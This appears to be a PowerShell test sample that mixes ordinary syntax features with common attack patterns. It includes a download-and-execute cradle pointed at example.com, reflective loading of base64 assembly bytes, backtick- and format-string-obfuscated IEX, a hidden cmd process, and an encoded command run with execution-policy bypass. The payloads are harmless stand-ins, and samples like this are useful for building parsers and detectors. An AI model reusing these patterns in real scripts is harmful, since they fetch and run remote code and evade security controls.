#requires -Version 5
param([Parameter(Mandatory=$true)][string]$Name = "x", [switch]$Go)
$ErrorActionPreference = 'SilentlyContinue'; $a = @{ b = 1; 'c' = @(1,2) }; $s = "v: $($a.b) ${env:TEMP} `"q`" $a[0]"
function Get-It { [CmdletBinding()] param() begin {} process { $_ | Where-Object { $_.Name -like '*x' -and -not $false } | ForEach-Object { $_ } } end {} }
try { (New-Object Net.WebClient).DownloadString('https://example.com/x') | iex } catch [System.Exception] { throw } finally { }
$h = @"
here $Name
"@
[Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQ')) ; & ([scriptblock]::Create(('e','c','h','o' -join ''))) ; I`E`X ("{1}{0}" -f 'o','ech')
switch -regex ($h) { '^a' { break } default { Start-Process cmd -ArgumentList '/c echo' -WindowStyle Hidden } }
powershell -ExecutionPolicy Bypass -EncodedCommand ZQBjAGgAbwA=
for ($i = 0; $i -lt 3; $i++) { Set-ItemProperty -Path HKCU:\Software\X -Name Y -Value $i } <# block #>
